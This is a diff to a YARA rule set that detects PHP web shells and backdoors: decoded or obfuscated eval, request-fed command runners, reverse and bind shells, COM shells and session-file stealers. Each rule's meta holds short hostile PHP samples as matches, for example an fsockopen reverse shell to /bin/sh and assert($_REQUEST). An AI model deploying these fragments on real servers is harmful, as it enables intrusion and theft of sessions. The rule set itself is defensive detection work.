@@ -5,9 +5,12 @@
     double-quoted escapes decoded and constant pieces folded into the string they
     spell ('as'.'sert', chr(97).chr(115), strrev('lave'), str_rot13('riny'),
     base64_decode('ZXZhbA=='), str_replace('`','','a`s`s`e`r`t')), and every use of
-    a variable that holds request data ($cmd = $_GET['c']) followed by the byte
-    \x02. So a rule here never fires on prose in a comment, hiding a name in
-    pieces does not hide it, and request data is followed through a variable.
+    a variable that holds request data ($cmd = $_GET['c'], $c = isset($_POST['c'])
+    ? $_POST['c'] : '', $post = json_decode(file_get_contents('php://input')))
+    followed by the byte \x02, as is the first parameter of a function of the
+    file, inside it, where the file calls it with request data. So a rule here
+    never fires on prose in a comment, hiding a name in pieces does not hide it,
+    and request data is followed through variables and functions.
 
     Every rule says in its meta what it catches and why (description), a
     fragment it matches (matches) and one it must not match (not_matches);
@@ -27,6 +30,7 @@
       runner   eval, assert, system, exec, passthru, shell_exec, popen, proc_open,
                pcntl_exec (not a method: no "->" or "::" before it)
       request  $_GET, $_POST, $_REQUEST, $_COOKIE, $_FILES, $_SERVER['HTTP_...'],
+               $HTTP_GET_VARS, $HTTP_POST_VARS, $HTTP_COOKIE_VARS (PHP 4's names),
                getenv('HTTP_...'), getallheaders(), apache_request_headers(),
                php://input, and a variable marked \x02 (it holds request data)
 */
@@ -34,23 +38,24 @@
 rule eval_decoded
 {
     meta:
-        description = "eval/assert/system/include fed by a decoder (base64_decode, gzinflate, str_rot13, ...): a payload hidden from readers"
-        example_match = "<?php @eval(gzinflate(base64_decode('7b0HYBxJ')));"
-        example_no_match = "<?php $data = base64_decode( $encoded ); $r = curl_exec( $ch );"
+        description = "eval/assert/system/include fed by a decoder (base64_decode, gzinflate, str_rot13, ...), in the same call or through a variable decompressed in the statement before: a payload hidden from readers"
+        example_match = "<?php $w = base64_decode($info); $h = gzinflate($w); @eval('?>' . $h);"
+        example_no_match = "<?php $data = base64_decode( $encoded ); $r = curl_exec( $ch ); $page = gzinflate( $body ); echo $page;"
     strings:
         $call = /([^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(|[^\w$>:'"](include|require)(_once)?\b)[^;]{0,200}(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|convert_uudecode|hex2bin|pack\s*\(\s*['"]H\*['"]\s*,)\s*\(?/ nocase
+        $inflated_then_run = /(gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode)\s*\(\s*[$]\w+\s*\)\s*;\s*@?(eval|assert)\s*\(\s*(['"]\?>['"]\s*\.\s*)?@?[$]\w+\s*\)/ nocase
     condition:
-        $call
+        $call or $inflated_then_run
 }
 
 rule eval_request
 {
     meta:
         description = "eval/assert/system/include fed by request data or a request header in the same call"
-        example_match = "<?php @assert($_REQUEST['x']); system(getenv('HTTP_X_CMD'));"
+        example_match = "<?php @assert($_REQUEST['x']); system(getenv('HTTP_X_CMD')); passthru($HTTP_GET_VARS['c']);"
         example_no_match = "<?php echo esc_html( $_GET['page'] ); $o->exec($_POST['q']);"
     strings:
-        $call = /([^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(|[^\w$>:'"](include|require)(_once)?\b)[^;]{0,200}(\$_(GET|POST|REQUEST|COOKIE|FILES)\b|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|getallheaders\s*\(|apache_request_headers\s*\(|php:\/\/input)/ nocase
+        $call = /([^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(|[^\w$>:'"](include|require)(_once)?\b)[^;]{0,200}(\$_(GET|POST|REQUEST|COOKIE|FILES)\b|\$HTTP_(GET|POST|COOKIE)_VARS\b|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|getallheaders\s*\(|apache_request_headers\s*\(|php:\/\/input)/ nocase
     condition:
         $call
 }
@@ -58,7 +63,7 @@ rule eval_request
 rule request_callable
 {
     meta:
-        description = "a function whose name comes from the request, or a variable function called with request data: $_POST['f']($_POST['a']), $f($_POST['x'])"
+        description = "a function whose name comes from the request, or a variable function called with request data: $_POST['f']($_POST['a']), $f($_POST['x']), new ReflectionFunction($_GET['f']), Closure::fromCallable($f)->__invoke($_POST['x'])"
         example_match = "<?php $k = $p; $k($_POST['ice']);"
         example_no_match = "<?php $value = sanitize_text_field( $_POST['name'] ); $cb( $value );"
     strings:
@@ -70,6 +75,9 @@ rule request_callable
         $string_call = /['"]\s*\)\s*\(\s*@?\$_(GET|POST|REQUEST|COOKIE)/ nocase
         $result_call_1 = /\w\s*\([^();]{0,80}\)\s*\(\s*@?\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
         $result_call_2 = /\w\s*[(][^();]{0,80}[)]\s*[(]\s*@?[$]\w+\x02/
+        $reflection = /new\s+ReflectionFunction\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|[$]\w+\x02)/ nocase
+        $from_callable_1 = /Closure::fromCallable\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|[$]\w+\x02)/ nocase
+        $from_callable_2 = /Closure::fromCallable\s*\([^;]{0,80}\)\s*->\s*(__invoke|call)\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|[$]\w+\x02)/ nocase
     condition:
         any of them
 }
@@ -94,8 +102,8 @@ rule request_through_variable
 rule hidden_runner_name
 {
     meta:
-        description = "the name of a runner (assert, eval, system, ...) assembled from pieces, decoded or reversed, then kept in a variable or called: the oldest way to hide a backdoor from a grep"
-        example_match = "<?php $f = 'as' . 'se' . 'rt'; $f($x);"
+        description = "the name of a runner (assert, eval, system, ...) assembled from pieces, decoded or reversed, or picked character by character out of a string ($s[4].$s[21].$s[0].$s[11]), then kept in a variable or called: the oldest way to hide a backdoor from a grep"
+        example_match = "<?php $a = 'abcdefghijklmnopqrstuvwxyz'; $f = $a[4].$a[21].$a[0].$a[11].$a[18]; $f($x);"
         example_no_match = "<?php $key = 'wp_' . 'nonce'; $s = 'ev' . 'ent'; if ( function_exists( 'system' ) ) {}"
     strings:
         $assigned = /[$]\w+\s*(\.?=|=>)\s*['"](assert|eval|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|call_user_func|call_user_func_array|base64_decode|gzinflate|gzuncompress|str_rot13)['"]\s*[;,\])]/ nocase
@@ -104,14 +112,17 @@ rule hidden_runner_name
         $variable_call = /(^|[^\w>:])[$]\w+\x02?\s*(\[[^\]]{1,40}\]\s*){0,3}\(/
         $underscore_call = /(^|[^\w>:])\$_{1,9}\s*\(\s*@?(\$_{1,9}\s*[\[)]|[a-z_]\w*\s*\()/ nocase
         $numeric_calls = /([$]\w+\s*\(\s*\d{1,3}\s*\)\s*\.\s*){4}/
+        $picked = /(\$\w+\x02?(\[['"]\w{1,20}['"]\])?(\[\d{1,3}\]|\{\d{1,3}\})\.){4}\$\w+\x02?(\[['"]\w{1,20}['"]\])?(\[\d{1,3}\]|\{\d{1,3}\})/
+        $picked_call = /(\[\d{1,3}\]|\{\d{1,3}\})\]\s*\(/
     condition:
         $called or $underscore_call or $numeric_calls or (($assigned or $suffix) and $variable_call)
+        or ($picked and ($variable_call or $picked_call))
 }
 
 rule runner_as_callback
 {
     meta:
-        description = "assert, eval or a command runner handed as a callback (call_user_func, array_map, array_udiff_assoc, register_shutdown_function, ob_start, ...), or a callback named by the request or a decoder: it runs data without a visible call"
+        description = "assert, eval or a command runner handed as a callback (call_user_func, array_map, array_udiff_assoc, register_shutdown_function, ob_start, ...), a callback named by the request or a decoder, or request data compared by array_intersect_uassoc and its kin through a callback held in a variable: it runs data without a visible call"
         example_match = "<?php array_udiff_assoc(array($_REQUEST['p'] => 1), array(1), 'assert');"
         example_no_match = "<?php array_map( 'esc_attr', $classes ); call_user_func( 'wp_die', $msg );"
     strings:
@@ -121,12 +132,14 @@ rule runner_as_callback
         $pieced_callback = /(call_user_func|call_user_func_array|array_map|array_filter|array_walk|usort|uasort|uksort|array_u(diff|intersect)\w*|array_(diff|intersect)_u\w+|register_shutdown_function)\s*\([^;{]{0,200}[(,]\s*\$\w+(\[[^\]]{1,10}\])?(\s*\.\s*\$\w+(\[[^\]]{1,10}\])?){1,4}\s*\)/ nocase
         $ob_capture = /ob_start\s*\(\s*function/ nocase
         $request_callback = /(array_diff_u\w+|array_intersect_u\w+|array_udiff\w*|array_uintersect\w*)\s*\([^;]{0,300},\s*@?(\(string\)\s*)?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\s*\[[^\]]{1,40}\])\s*\)/ nocase
+        $request_compared = /(array_diff_u\w+|array_intersect_u\w+|array_udiff\w*|array_uintersect\w*)\s*\(\s*@?array\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\s*\[|[$]\w+\x02)[^;]{0,300},\s*@?[$]\w+\x02?(\s*\.\s*(['"][^'"\n]{0,20}['"]|[$]\w+\x02?))*\s*\)\s*;/ nocase
         $eval_var = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\)/ nocase
         $request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase
         $first_dynamic = /(call_user_func|call_user_func_array|array_map|register_shutdown_function|register_tick_function|ob_start|forward_static_call|forward_static_call_array|iterator_apply)\s*\(\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\b|(base64_decode|str_rot13|strrev|gzinflate|hex2bin)\s*\()/ nocase
         $second_dynamic = /(array_filter|array_walk|array_walk_recursive|array_reduce|usort|uasort|uksort|preg_replace_callback)\s*\(\s*[^,;]{1,80},\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\b|(base64_decode|str_rot13|strrev|gzinflate|hex2bin)\s*\()/ nocase
     condition:
         $callback or $ob_eval or $first_dynamic or $second_dynamic or $over_request or $pieced_callback or $request_callback
+        or $request_compared
         or ($ob_capture and $eval_var and $request)
 }
 
@@ -163,26 +176,28 @@ rule encrypted_payload_runner
 rule preg_replace_eval
 {
     meta:
-        description = "preg_replace with the /e modifier or mb_ereg_replace with the e option, which evaluate the replacement as PHP"
+        description = "preg_replace with the /e modifier (also at the end of a pattern joined from pieces: '/' . $p . '/e') or mb_ereg_replace with the e option, which evaluate the replacement as PHP"
         example_match = "<?php preg_replace(\"/.*/e\", $_POST['c'], '');"
         example_no_match = "<?php return preg_replace( '/[^a-z0-9_\\-]/', '', $key );"
     strings:
         $e = /preg_replace\s*\(\s*['"][^'"]{0,400}[\/#|~!@%{}][a-df-z]*e[a-z]*['"]\s*,/ nocase
         $mb_e = /mb_e?regi?_replace\s*\([^;]{0,300},\s*['"][a-df-z]*e[a-z]*['"]\s*\)/ nocase
+        $joined_e = /preg_replace\s*\([^;,]{0,300}\.\s*['"][\/#|~!@%{}][a-df-z]*e[a-z]*['"]\s*,/ nocase
     condition:
-        $e or $mb_e
+        $e or $mb_e or $joined_e
 }
 
 rule create_function_code
 {
     meta:
-        description = "create_function (an eval in disguise, removed in PHP 8) with code that is not a plain literal"
-        example_match = "<?php $f = create_function('', $code); $f();"
+        description = "create_function (an eval in disguise, removed in PHP 8) with code that is not a plain literal (the arguments given as a string or null), or a variable function that makes a function out of code in the same way and is called on the spot: $g['c']($g['e'](null, $code))"
+        example_match = "<?php call_user_func(create_function(null, $code));"
         example_no_match = "<?php $cmp = create_function('$a,$b', 'return $a - $b;');"
     strings:
-        $dynamic = /create_function\s*\(\s*['"][^'"]*['"]\s*,\s*[^'"\s]/ nocase
+        $dynamic = /create_function\s*\(\s*(['"][^'"]*['"]|null)\s*,\s*[^'"\s]/ nocase
+        $through_variables = /(^|[^\w>:])[$]\w+(\[[^\]]{1,40}\])*\s*\(\s*@?[$]\w+(\[[^\]]{1,40}\])*\s*\(\s*(null|''|"")\s*,\s*[^'"\s)]/ nocase
     condition:
-        $dynamic
+        $dynamic or $through_variables
 }
 
 rule include_non_php_file
@@ -200,16 +215,18 @@ rule include_non_php_file
 rule reverse_shell
 {
     meta:
-        description = "a socket to a fixed address handed to a shell: a reverse shell back to the attacker"
+        description = "a socket to a fixed address handed to a shell (a reverse shell back to the attacker), a listening socket handed to a shell (a bind shell), or commands read from a socket and run"
         example_match = "<?php $s=fsockopen(\"203.0.113.9\",4444);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$pipes);"
         example_no_match = "<?php $fp = fsockopen( $host, 80, $errno, $errstr, 5 ); fwrite( $fp, $request );"
     strings:
         $socket = /(fsockopen|pfsockopen|stream_socket_client|socket_connect)\s*\(\s*['"]?(tcp:\/\/|udp:\/\/)?[\w.\-:]+['"]?\s*,\s*\d{2,5}/ nocase
         $socket_var = /(fsockopen|pfsockopen|stream_socket_client|socket_connect|socket_create)\s*\(/ nocase
-        $shell = /['"](\/bin\/(ba)?sh|sh -i|bash -i|cmd\.exe|\/bin\/sh -i)/ nocase
+        $shell = /['"][^'"\n]{0,80}(\/bin\/(ba)?sh\b|\bsh -i\b|\bbash -i\b|cmd\.exe)/ nocase
         $runner = /[^\w$>:](proc_open|popen|shell_exec|system|exec|passthru)\s*\(/ nocase
+        $listen = /(stream_socket_server|socket_bind|socket_listen)\s*\(/ nocase
+        $read_and_run = /[$]\w+\s*=\s*@?(trim\s*\(\s*)?(fgets|fread|socket_read|stream_get_line)\s*\(\s*[$]\w+[^;]{0,60};[^\x00]{0,400}([^\w$>:](shell_exec|system|passthru|exec|popen|proc_open)\s*\(\s*[$]\w+|`[$]\w+`)/ nocase
     condition:
-        ($socket and $runner) or ($socket_var and $runner and $shell)
+        ($socket and $runner) or (($socket_var or $listen) and $runner and $shell) or ($socket_var and $read_and_run)
 }
 
 rule request_file_writer
@@ -220,7 +237,7 @@ rule request_file_writer
         example_no_match = "<?php move_uploaded_file( $file['tmp_name'], $dir . '/' . wp_unique_filename( $dir, $name ) );"
     strings:
         $client_name = /[^\w$>:](move_uploaded_file|copy)\s*\(\s*\$_FILES\s*\[[^\]]{1,40}\]\s*\[\s*['"]tmp_name['"]\s*\]\s*,[^;]{0,120}\$_FILES\s*\[[^\]]{1,40}\]\s*\[\s*['"]name['"]\s*\]\s*\)/ nocase
-        $request_path = /(file_put_contents|fopen)\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\s*\[|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_)/ nocase
+        $request_path = /(file_put_contents|fopen)\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\s*\[|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|[$]\w+\x02)/ nocase
         $request_url = /(file_put_contents|fwrite)\s*\([^;]{0,120}file_get_contents\s*\(\s*\$_(GET|POST|REQUEST)\s*\[/ nocase
         $php_destination = /[^\w$>:](move_uploaded_file|copy)\s*\([^;]{0,150},\s*['"][^'"\n]{0,100}\.(php[3-8]?|phtml|pht|phar)['"]\s*\)/ nocase
         $request_destination = /[^\w$>:](move_uploaded_file|copy)\s*\([^;]{0,150},\s*(\$_(POST|GET|REQUEST)\b|\$\w+\x02)/ nocase
@@ -273,14 +290,16 @@ rule backtick_request
 rule packed_payload_runner
 {
     meta:
-        description = "a long encoded blob decoded in a file that also runs code (eval, assert, a variable function): a packed shell"
+        description = "a long encoded blob decoded in a file that also runs code (eval, assert, a variable function), or evaluated through a decoder function of the file's own (base64_decode, gzinflate, ... inside it): a packed shell"
         example_match = "<?php $x = base64_decode('SGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQ='); eval($x);"
         example_no_match = "<?php $png = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='); echo $png;"
     strings:
         $blob = /(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode|hex2bin)\s*\(\s*['"][A-Za-z0-9+\/=\\\r\n]{256}/ nocase
         $runner = /[^\w$>:](eval|assert|create_function)\s*\(|(^|[^\w>:])\$\w+\s*\(\s*\$\w+\s*\)\s*;/ nocase
+        $own_decoder_eval = /[^\w$>:](eval|assert)\s*\(\s*@?[a-z_]\w*\s*\(\s*['"][A-Za-z0-9+\/=\\\s]{200}/ nocase
+        $decoder_function = /\{\s*(\$\w+\s*=\s*|return\s+)?@?((base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode|strrev)\s*\(\s*){1,3}[$]\w+/ nocase
     condition:
-        $blob and $runner
+        ($blob and $runner) or ($own_decoder_eval and $decoder_function)
 }
 
 rule web_command_form
@@ -358,7 +377,7 @@ rule request_path_access
 rule encoded_code
 {
     meta:
-        description = "code that runs things or reads the request, written in base64 or hex (eval(, assert(, system(, $_POST[ ...): only a packed payload carries its own code encoded"
+        description = "code that runs things or reads the request, written in base64 or hex (eval(, assert(, system(, $_POST[ ...), or the name of a runner or a file writer written in hex as a string of its own ('66696c655f7075745f636f6e74656e7473' is file_put_contents): only a packed payload carries its own code encoded"
         example_match = "<?php $p = 'QGV2YWwoJF9QT1NUWyd4J10pOw=='; $t = '61737365727428245f504f53545b635d293b';"
         example_no_match = "<?php $icon = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGElEQVR42mNk'; $h = 'deadbeef00112233';"
     strings:
@@ -372,6 +391,7 @@ rule encoded_code
         $b64_request = "$_REQUEST[" base64
         $b64_cookie = "$_COOKIE[" base64
         $hex = /6576616c28|61737365727428|73797374656d28|7061737374687275|245f504f5354|245f4745545b|245f52455155455354|245f434f4f4b4945/ nocase
+        $hex_name = /['"](6576616c|617373657274|73797374656d|65786563|7368656c6c5f65786563|706f70656e|70726f635f6f70656e|6372656174655f66756e6374696f6e|63616c6c5f757365725f66756e63|6261736536345f6465636f6465|677a696e666c617465|66696c655f7075745f636f6e74656e7473|6d6f76655f75706c6f616465645f66696c65)['"]/ nocase
     condition:
         any of them
 }
@@ -401,4 +421,44 @@ rule xslt_php_runner
         $register = "registerPHPFunctions" nocase
     condition:
         $call and $register
+}
+
+rule shell_pipe_runner
+{
+    meta:
+        description = "a command piped into a shell (exec('echo ... | /bin/sh')): what runs is what is fed to the shell, which a reader of the call never sees; programs run commands directly"
+        example_match = "<?php exec('echo \"./' . basename($file) . '\" | /bin/sh', $output, $status);"
+        example_no_match = "<?php exec('ls -1 ' . escapeshellarg($dir) . ' | sha256sum', $output); $sh = 'sh';"
+    strings:
+        $pipe = /[^\w$>:](exec|system|passthru|shell_exec|popen|proc_open)\s*\([^;]{0,200}\|\s*(\/usr)?(\/bin\/)?(ba|da|z)?sh\b\s*(-s\b|-i\b)?\s*['"]/ nocase
+    condition:
+        $pipe
+}
+
+rule windows_com_shell
+{
+    meta:
+        description = "a Windows shell through COM (new COM('WScript.Shell') or 'Shell.Application', which run any command), or an IIS account dumper (new COM('IIS://localhost/w3svc') reading the sites' AnonymousUserPass): PHP web code never needs either"
+        example_match = "<?php $ws = new COM('WScript.Shell'); $out = $ws->exec('cmd /c ' . $c)->StdOut->ReadAll();"
+        example_no_match = "<?php $word = new COM('Word.Application'); $doc = $word->Documents->Open($path);"
+    strings:
+        $shell = /new\s+COM\s*\(\s*['"](WScript\.Shell|Shell\.Application)['"]/ nocase
+        $iis = /new\s+COM\s*\(\s*['"]IIS:\/\// nocase
+        $anonymous_password = "AnonymousUserPass" nocase
+    condition:
+        $shell or ($iis and $anonymous_password)
+}
+
+rule session_file_reader
+{
+    meta:
+        description = "a script that lists the shared session directory (/tmp, /var/lib/php/sessions), picks the sess_* files in it and reads them: a session stealer that takes other sites' logged-in sessions on a shared host"
+        example_match = "<?php $d = opendir('/tmp'); while ($f = readdir($d)) { if (strpos($f, 'sess_') === 0) { echo file_get_contents('/tmp/' . $f); } }"
+        example_no_match = "<?php session_save_path('/var/lib/php/sessions'); $id = 'sess_' . session_id(); $d = opendir($cache_dir);"
+    strings:
+        $list = /(opendir|scandir|glob)\s*\(\s*@?['"](\/tmp|\/var\/tmp|\/var\/lib\/php\d*\/sessions?)\/?(\*|sess_\*)?['"]/ nocase
+        $session_file = /['"](\/tmp\/|\/var\/lib\/php\d*\/sessions?\/)?sess_/
+        $read = /[^\w$>:](file_get_contents|fopen|file|readfile|fgets|fread)\s*\(/ nocase
+    condition:
+        $list and $session_file and $read
 }
